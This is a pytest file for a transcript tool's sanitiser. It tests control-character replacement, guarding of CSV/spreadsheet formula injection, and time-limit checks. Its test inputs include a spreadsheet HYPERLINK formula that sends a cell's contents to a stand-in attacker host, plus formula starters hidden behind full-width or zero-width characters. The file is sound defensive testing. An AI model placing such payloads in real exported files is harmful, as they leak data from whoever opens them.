"""The one sanitiser: characters no file keeps, spreadsheet cells that never run, time bounds."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reviewer.core.cleaning import (
    bad_characters,
    clean_text,
    clean_transcript,
    spreadsheet_cell,
    spreadsheet_value,
)
from reviewer.core.limits import MAX_TIME_MS, QT_INT_MAX, time_problem
from reviewer.core.models import Segment, Speaker, Transcript


@pytest.mark.parametrize(
    ("dirty", "clean"),
    [
        ("a\x00b", "a\ufffdb"),
        ("esc \x1b[31mred", "esc \ufffd[31mred"),
        ("bell\x07 del\x7f c1\x85\x9b", "bell\ufffd del\ufffd c1\ufffd\ufffd"),
        ("lone \ud800 and \udfff", "lone \ufffd and \ufffd"),
        ("not xml \ufffe\uffff", "not xml \ufffd\ufffd"),
        ("dos\r\nmac\rend", "dos\nmac\nend"),
        ("tab\tand\nnewline kept, 真主党, Лавров, 😀",) * 2,
    ],
)
def test_clean_text_replaces_what_no_file_keeps(dirty: str, clean: str) -> None:
    assert clean_text(dirty) == clean
    assert not bad_characters(clean_text(dirty))
    clean_text(dirty).encode("utf-8")  # no lone surrogate left to fail the encoding


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        "＝1+1",  # full-width forms, which East Asian spreadsheets convert
        "＋1",
        "－1",
        "＠SUM(A1)",
        "\u200b=1+1",  # behind a zero-width space, word joiner, BOM, direction mark
        "\u2060\ufeff\u200e=1+1",
        "  =1+1",
        "\u3000=1+1",
        "'=1+1",  # an apostrophe already there is guarded again, so the read is exact
        "''+1",
    ],
)
def test_cells_a_spreadsheet_could_run_are_guarded_and_read_back(cell: str) -> None:
    written = spreadsheet_cell(cell)
    assert written == "'" + clean_text(cell)  # CR is a line end: LF
    assert spreadsheet_value(written) == clean_text(cell)
    out = io.StringIO()
    csv.writer(out).writerow([written])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [written]


@pytest.mark.parametrize("cell", ["Hello", "'Tis true", "3-2", "Wang Yi", "真主党", "", "'"])
def test_ordinary_cells_are_left_alone(cell: str) -> None:
    assert spreadsheet_cell(cell) == cell
    assert spreadsheet_value(cell) == cell


@given(st.text())
def test_a_cell_reads_back_as_the_cleaned_text_and_never_starts_a_formula(text: str) -> None:
    written = spreadsheet_cell(text)
    assert spreadsheet_value(written) == clean_text(text)
    assert not bad_characters(written)
    first = written.lstrip(" \u3000\u200b\u2060\ufeff")[:1]
    assert first not in set("=+-@\t\r＝＋－＠")


def test_clean_transcript_copies_only_when_needed_and_never_changes_its_argument() -> None:
    clean = Transcript([Segment(0, 1000, "真主党", "Hezbollah", "Wang Yi")], [Speaker("Wang Yi")])
    assert clean_transcript(clean) == (clean, [])

    dirty = Transcript(
        [
            Segment(0, 1000, "ok", "fine"),
            Segment(1000, 2000, "a\x00", "b\ud800", "A\x01", ["t\x02"], note="n\x1b"),
        ],
        [Speaker("A\x01"), Speaker("A\x02")],
        title="T\x00",
    )
    cleaned, repairs = clean_transcript(dirty)
    assert dirty.segments[1].source == "a\x00" and dirty.title == "T\x00"  # untouched
    assert cleaned.segments[0] is dirty.segments[0]  # a clean segment is shared
    second = cleaned.segments[1]
    assert (second.source, second.translation, second.speaker) == ("a\ufffd", "b\ufffd", "A\ufffd")
    assert (second.tags, second.note, cleaned.title) == (["t\ufffd"], "n\ufffd", "T\ufffd")
    # Two speakers whose names differed only in a control character are one speaker now.
    assert [s.name for s in cleaned.speakers] == ["A\ufffd"]
    fields = {(r.index, r.field) for r in repairs}
    assert {(1, "source"), (1, "translation"), (1, "tags"), (None, "title")} <= fields


def test_the_time_limit_stays_inside_what_qt_holds() -> None:
    assert MAX_TIME_MS < QT_INT_MAX
    assert time_problem(0, MAX_TIME_MS) is None
    assert "100-hour limit" in (time_problem(0, MAX_TIME_MS + 1) or "")
    assert "negative" in (time_problem(-1, 10) or "")
    absurd = time_problem(0, int("9" * 20) * 3_600_000)
    assert absurd is not None and "20-digit hours" in absurd
